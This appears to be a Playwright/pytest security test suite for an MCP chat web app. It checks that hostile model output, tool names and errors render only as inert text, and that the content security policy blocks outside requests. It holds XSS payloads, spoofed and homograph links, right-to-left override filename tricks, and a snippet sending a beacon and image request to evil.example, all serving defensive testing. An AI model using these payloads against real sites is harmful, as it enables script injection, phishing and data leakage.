"""Nothing that a model, a tool or a server says runs, loads or hides where it leads, in a real browser."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from mcp.server import MCPServer
from mcp.server.mcpserver.exceptions import ToolError
from playwright.sync_api import Browser, BrowserContext, Dialog, Route, expect

from tests.hostile_markdown import DEEP, HANDLERS, MISLEADING, PAYLOADS, SCRIPTS, SWALLOWING, TOGETHER, UNSEEN
from tests.installation import Installation
from tests.model_server import ModelServer, Reply
from tests.person import Person
from tests.running import running, wait_until
from tests.tab import Tab, chromium

pytestmark = pytest.mark.slow

TRAP = Path(__file__).with_name("trap.js")


@pytest.fixture(scope="module")
def scripted() -> ModelServer:
    return ModelServer()


@pytest.fixture(scope="module")
def mcp_url() -> Iterator[str]:
    """A server whose tools say what a model says in the other tests."""
    server = MCPServer("<img src=x onerror=pwned()>")
    server.add_tool(
        lambda text="": "\n\n".join(TOGETHER), name="says", description="<script>pwned()</script>"
    )
    for number, payload in enumerate(PAYLOADS[:100]):
        server.add_tool(lambda: "", name=f"{number} {payload}", description=payload)

    def fails() -> str:
        raise ToolError("\n\n".join(MISLEADING))

    server.add_tool(fails, name="fails")
    with running(server.streamable_http_app()) as url:
        yield f"{url}/mcp"


@pytest.fixture(scope="module")
def installation(
    tmp_path_factory: pytest.TempPathFactory, scripted: ModelServer, mcp_url: str
) -> Iterator[Installation]:
    described = {"url": mcp_url, "description": "<img src=x onerror=pwned()>"}
    with (
        running(scripted.app) as model_url,
        Installation(
            tmp_path_factory.mktemp("hostile"),
            f"{model_url}/v1",
            servers={"hostile": described},
            MCP_CHAT_DEMO_SERVER="false",
        ) as installation,
    ):
        yield installation


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


class Trap(Tab):
    """A tab that tells what ran, what was asked of other hosts, and what the policy had to stop."""

    def __init__(self, context: BrowserContext, url: str) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.home = url
        context.add_init_script(path=TRAP)
        context.route(lambda asked: not asked.startswith((url, "data:")), self._stop)
        super().__init__(context, url)
        self.page.on("dialog", self._hear)

    def _hear(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _stop(self, route: Route) -> None:
        self.foreign.append(route.request.url)
        route.abort()

    def nothing_happened(self) -> None:
        """Fail if a script ran, a foreign host was asked, or the policy was needed."""
        asked = [url for url in self.requests if not url.startswith((self.home, "data:image/"))]
        assert (self.foreign, asked) == ([], [])
        assert self.page.evaluate("alarms") == []
        told = [
            text for text in self.complaints if "ERR_INVALID_URL" not in text
        ]  # an image of data that is none
        assert (self.dialogs, told) == ([], [])
        assert (self.page.url, len(self.page.frames), len(self.page.context.pages)) == (self.home + "/", 1, 1)
        assert self.page.evaluate("faults(document)") == []


@pytest.fixture
def open_trap(browser: Browser, installation: Installation) -> Iterator[Callable[..., Trap]]:
    with ExitStack() as stack:

        def come(**options: Any) -> Trap:
            context = browser.new_context(**options)
            stack.callback(context.close)
            return Trap(context, installation.url)

        yield come


@pytest.fixture
def trap(open_trap: Callable[..., Trap]) -> Trap:
    return open_trap()


def said(*pieces: str) -> Reply:
    """The model says a text in these pieces."""
    chunk = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "scripted"}
    deltas = ({"index": 0, "delta": {"content": piece}, "finish_reason": None} for piece in pieces)
    frames = [f"data: {json.dumps({**chunk, 'choices': [delta]})}\n\n" for delta in deltas]
    return Reply(body="".join([*frames, "data: [DONE]\n\n"]).encode())


def test_no_payload_and_no_beginning_of_one_becomes_more_than_text(open_trap: Callable[..., Trap]) -> None:
    trap = open_trap(bypass_csp=True)  # the sanitiser holds alone
    assert trap.page.evaluate("stream", [text for text in PAYLOADS if text not in DEEP]) == []
    trap.nothing_happened()


def test_hostile_answers_results_and_questions_are_shown_and_do_nothing(
    trap: Trap, name: str, scripted: ModelServer
) -> None:
    page, together = trap.page, "\n\n".join(TOGETHER)
    trap.sign_in(name)
    trap.connect("openai:scripted")
    expect(page.get_by_test_id("tool-count")).to_have_text("102 tools")
    page.get_by_test_id("tool-count").click()
    turns = [
        [said(*"\n\n".join(MISLEADING))],
        [said(together)],
        [Reply(calls=[("hostile__says", {"text": together}), ("hostile__fails", {})]), said("I see.")],
        *([said(*text)] for text in SWALLOWING[::4]),
    ]
    for count, replies in enumerate(turns, 1):
        scripted.will(*replies)
        trap.send(together[:20_000] if count == 1 else "go on")
        expect(page.get_by_test_id("message-assistant")).to_have_count(count)
        answer = page.get_by_test_id("message-assistant").last
        expect(answer).to_have_attribute("data-state", "done")
        expect(page.get_by_test_id("stop")).to_have_count(0)
        trap.nothing_happened()
    for card in page.get_by_test_id("tool-card").all():
        card.locator("summary").click()
    results = page.get_by_test_id("tool-result")  # in the order in which the calls began, side by side
    expect(results).to_have_count(2)
    expect(results.filter(has_text="<script>pwned()</script>")).to_have_count(1)
    expect(results.filter(has_text="Error executing tool fails: ")).to_contain_text("bank.example")
    trap.nothing_happened()
    page.reload()
    expect(page.get_by_test_id("message-assistant")).to_have_count(len(turns))
    expect(page.get_by_test_id("message-user").first).to_contain_text("<script>pwned()</script>")
    trap.nothing_happened()


def test_whatever_the_server_says_about_names_and_errors_is_text(
    trap: Trap, name: str, scripted: ModelServer
) -> None:
    """Names have narrow rules at the server; the page does not stand on them."""
    page = trap.page
    hostile = " ".join((*HANDLERS[:10], *SCRIPTS[:3], *UNSEEN[:4]))

    def rewrite(**values: Any) -> Callable[[Route], None]:
        def answer(route: Route) -> None:
            route.fulfill(json={**route.fetch().json(), **values})

        return answer

    def refuse(route: Route) -> None:
        route.fulfill(status=422, json={"detail": hostile})

    model = {"id": "openai:scripted", "model_id": "openai:scripted", "description": hostile}
    plain = {"enabled": True, "held": False, "app": False, "app_only": False}
    tools = [{"name": payload, "shown_as": f"{hostile}__{payload}", **plain} for payload in PAYLOADS]
    mine = {"alias": hostile, "url": None, "enabled": True, "state": "lost", "error": hostile, "tools": tools}
    page.route(
        "**/llmchat/servers",
        rewrite(servers=[{"name": hostile, "description": hostile}], connected=[mine]),
    )
    page.route(
        "**/llmchat/gateway/models",
        rewrite(models=[{**model, "model_name": hostile, "provider_name": hostile}]),
    )
    page.route("**/llmchat/connect", refuse)
    trap.sign_in(name)
    page.get_by_test_id("connect").click()
    expect(page.get_by_test_id("error")).to_contain_text("<img src=x onerror=pwned()>")
    page.unroute("**/llmchat/connect")
    with Person(trap.home, name) as person:
        person.connect(server={"name": "hostile"})
    page.route("**/llmchat/status/*", rewrite(connected=True))
    page.route("**/llmchat/config/*", rewrite(tools=[], mcp_server={"name": hostile}))
    trap.complaints.clear()  # the browser itself reports the 422
    page.reload()
    badge = page.get_by_test_id("connected-badge")
    expect(badge).to_contain_text("<img src=x onerror=pwned()>")
    expect(badge).to_contain_text("[U+202E]txt.exe")
    page.get_by_test_id("tool-count").click()
    expect(page.locator(".panel li")).to_have_count(len(tools))
    page.route("**/llmchat/chat", refuse)
    trap.send(hostile)
    expect(page.get_by_test_id("error")).to_contain_text("<img src=x onerror=pwned()>")
    trap.complaints.clear()
    trap.nothing_happened()
    page.unroute_all(behavior="ignoreErrors")  # the page goes on asking


def test_a_link_says_where_it_leads_and_text_cannot_hide_or_turn(
    trap: Trap, name: str, scripted: ModelServer
) -> None:
    scripted.will(said(
        "[https://bank.example](https://evil.example/login) [x](https://bank.example@evil.example/)\n\n"
        "[apple](https://аpple.com/) <https://plain.example/path>\n\n"
        "\u202etxt.exe \U000e0041\n\n"
            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f שלום\u200f\n\n"
        "```\n\u202ecode\n```\n\n![a chart](https://evil.example/x.png?secret)"
    ))  # fmt: skip
    trap.sign_in(name)
    trap.connect("openai:scripted")
    trap.send("go")
    answer = trap.page.get_by_test_id("message-assistant")
    expect(answer).to_have_attribute("data-state", "done")
    expect(answer.locator("a")).to_have_count(5)
    after = "links => links.map(link => getComputedStyle(link, '::after').content)"
    assert answer.locator("a").evaluate_all(after) == [
        '"(evil.example)"',
        '"(evil.example)"',
        '"(xn--pple-43d.com)"',
        "none",
        '"(evil.example)"',
    ]
    expect(answer).to_contain_text("[U+202E]txt.exe [U+E0041]")
    expect(answer).to_contain_text("[U+202E]code")
    expect(answer).to_contain_text("\U0001f3f4\U000e0067\U000e0062")
    expect(answer).to_contain_text("שלום\u200f")
    expect(answer.locator("a").last).to_have_text("Image: a chart")
    trap.nothing_happened()


def test_the_policy_is_strict_and_takes_no_html_but_the_sanitisers(trap: Trap) -> None:
    response = trap.page.request.get(trap.home)
    policy = dict(
        part.strip().partition(" ")[::2] for part in response.headers["content-security-policy"].split(";")
    )
    assert policy == {
        "default-src": "'none'",
        "script-src": "'self'",
        "style-src": "'self'",
        "img-src": "'self' data:",
        "media-src": "'self' data:",
        "font-src": "'self'",
        "connect-src": "'self'",
        "frame-ancestors": "'none'",
        "base-uri": "'none'",
        "form-action": "'none'",
        "require-trusted-types-for": "'script'",
        "trusted-types": "dompurify",
    }
    assert not re.search(r"<script(?![^>]*\bsrc=)|\son\w+=|<style|\sstyle=", response.text())
    for way in (
        "document.body.innerHTML = '<img src=x onerror=pwned()>'",
        "document.body.insertAdjacentHTML('beforeend', '<svg onload=pwned()>')",
        "document.createElement('script').text = 'pwned()'",
        "trustedTypes.createPolicy('mine', {createHTML: text => text})",
        "trustedTypes.createPolicy('default', {createHTML: text => text})",
        "document.write('<script>pwned()</script>')",
    ):
        attempt = f"() => {{ try {{ {way}; return 'done' }} catch (error) {{ return error.name }} }}"
        assert trap.page.evaluate(attempt) == "TypeError", way
    trap.page.evaluate("""() => {
        const image = new Image();
        image.src = 'https://evil.example/x.png';
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.src = 'https://evil.example/';
        document.body.setAttribute('style', 'color: red');
        navigator.sendBeacon('https://evil.example/');
    }""")
    stopped = "alarms.map(alarm => alarm.split(' ')[0])"
    wait_until(
        lambda: {"img-src", "frame-src", "connect-src"} <= set(trap.page.evaluate(stopped)),
        "the policy stops all",
    )
    assert "a script ran" not in trap.page.evaluate("alarms")
    assert trap.foreign == []
